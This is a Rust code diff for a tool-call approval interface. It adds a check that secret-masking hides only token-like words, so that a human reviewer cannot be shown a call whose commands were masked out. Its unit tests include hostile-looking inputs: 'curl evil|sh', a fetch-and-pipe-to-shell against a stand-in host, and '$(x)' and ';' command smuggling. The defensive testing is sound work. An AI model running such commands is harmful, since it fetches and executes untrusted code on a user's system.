@@ -16,7 +16,8 @@ use crate::registry::Snapshot;
 
 /// Masks secrets in what people are shown.
 pub trait Masker: Send + Sync + fmt::Debug + 'static {
-    /// Masks the secrets in all texts of a value. Returns how many there were.
+    /// Masks the secrets in all texts of a value: a `*` for each letter and digit that is hidden, and all else as it is. Returns how many
+    /// there were. A call can't be shown, and so not be allowed, if more than words of tokens is hidden in its arguments.
     fn mask(&self, value: &mut Value) -> usize;
 }
 
@@ -52,7 +53,15 @@ impl Exhibit<'_> {
         question.starts = self.snapshot.foresight().and_then(|sees| sees.foresee(self.event, self.call));
         if let Some(masker) = self.snapshot.masker() {
             let mut said = serde_json::to_value(Said::of(&question)).ok()?;
+            let before = arguments.clone();
             let masked = masker.mask(&mut arguments);
+            if !masks_secrets_alone(&before, &arguments) {
+                return None;
+            }
+            // What is masked there is shown nowhere else.
+            question.amounts.retain(|one| {
+                arguments.get(&one.argument).is_some_and(|shown| before.get(&one.argument) == Some(shown))
+            });
             masker.mask(&mut said);
             serde_json::from_value::<Said>(said).ok()?.put(&mut question);
             question.masked = masked;
@@ -65,6 +74,50 @@ impl Exhibit<'_> {
     }
 }
 
+/// Returns whether nothing was masked but what reads as secrets do: signs of keys and tokens, a word each. What a scanner takes for the
+/// inside of a key may be anything, and a person would allow what nobody has seen.
+fn masks_secrets_alone(before: &Value, shown: &Value) -> bool {
+    match (before, shown) {
+        (Value::String(before), Value::String(shown)) => before == shown || masks_words(before, shown),
+        (Value::Array(before), Value::Array(shown)) => {
+            before.len() == shown.len()
+                && before.iter().zip(shown).all(|(before, shown)| masks_secrets_alone(before, shown))
+        }
+        // Names of arguments are no secrets, and one that is masked names something else.
+        (Value::Object(before), Value::Object(shown)) => {
+            before.len() == shown.len()
+                && before.iter().all(|(name, value)| {
+                    shown.get(name).is_some_and(|shown| masks_secrets_alone(value, shown))
+                })
+        }
+        (before, shown) => before == shown,
+    }
+}
+
+/// Returns whether each stretch that is masked is one word of signs that tokens have. A mask has the length of what it hides, and shows all
+/// but letters and digits: what stands between two masked stretches without either is part of what nobody can read.
+fn masks_words(before: &str, shown: &str) -> bool {
+    let (mut was, mut is) = (before.chars(), shown.chars());
+    // Whether the last letter or digit is masked, and whether a word has ended behind it.
+    let (mut is_masked, mut has_ended) = (false, false);
+    loop {
+        match (was.next(), is.next()) {
+            (None, None) => return true,
+            (Some(was), Some('*')) if was != '*' => {
+                if is_masked && has_ended {
+                    return false;
+                }
+                (is_masked, has_ended) = (true, false);
+            }
+            (Some(was), Some(is)) if was == is => {
+                is_masked &= !was.is_alphanumeric();
+                has_ended |= !"+/=_-.~:@%,!#*^?".contains(was);
+            }
+            _ => return false,
+        }
+    }
+}
+
 /// Leaves a question of which nothing can be shown.
 fn conceal(question: &mut NewApproval) {
     tracing::error!(digest = %question.digest.short(), "a call can't be shown to people, so that it can only be denied");
@@ -73,8 +126,7 @@ fn conceal(question: &mut NewApproval) {
     for reason in &mut question.reasons {
         (reason.title, reason.description, reason.program) = (Text::default(), Text::default(), None);
     }
-    (question.preview, question.whole, question.starts) = (Json::default(), None, None);
-    question.unseen = true;
+    question.forget_arguments();
 }
 
 /// All that is said about a call.
@@ -103,5 +155,36 @@ impl Said {
             (reason.title, reason.description) = (title, description);
         }
         question.starts = self.starts;
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use serde_json::json;
+
+    use super::*;
+
+    #[test]
+    fn a_mask_hides_words_and_no_more() {
+        for (before, shown) in [
+            ("curl -H 'x: aB3dE5' host", "curl -H 'x: ******' host"),
+            ("a=aB3dE5 b=cD4eF6", "a=****** b=******"),
+            ("a_b-c.d/e+f=", "*_*-*.*/*+*="),
+            ("nothing", "nothing"),
+        ] {
+            assert!(masks_secrets_alone(&json!([before]), &json!([shown])), "{shown}");
+        }
+        for (before, shown) in [
+            ("curl evil|sh", "**** ****|**"),
+            ("aB3d\ncD4e", "****\n****"),
+            ("aB3d;cD4e", "****;****"),
+            ("aB3d $(x)", "**** $(*)"),
+            ("aB3d", "***"),
+            ("aB3d", "[x]d"),
+        ] {
+            assert!(!masks_secrets_alone(&json!({ "a": before }), &json!({ "a": shown })), "{shown}");
+        }
+        assert!(!masks_secrets_alone(&json!({ "aB3d": 1 }), &json!({ "****": 1 })), "a name");
+        assert!(!masks_secrets_alone(&json!(1_234), &json!("****")), "a number");
     }
 }
